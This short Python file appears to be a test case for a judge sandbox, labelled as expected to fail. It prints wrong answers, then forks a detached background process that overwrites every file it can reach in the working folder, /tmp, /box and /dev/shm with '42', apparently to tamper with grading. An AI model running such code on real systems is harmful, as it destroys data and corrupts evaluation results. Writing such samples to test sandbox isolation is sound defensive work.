#: B18; fail; wrong answers, and a child that later rewrites whatever it can
import os
import sys
import time

for word in sys.stdin.read().split():
    print(0)
sys.stdout.flush()
if os.fork() == 0:
    os.setsid()
    while True:
        for folder in (".", "/tmp", "/box", "/dev/shm"):
            try:
                for name in os.listdir(folder):
                    with open(os.path.join(folder, name), "w") as f:
                        f.write("42\n")
            except OSError:
                pass
        time.sleep(0.001)
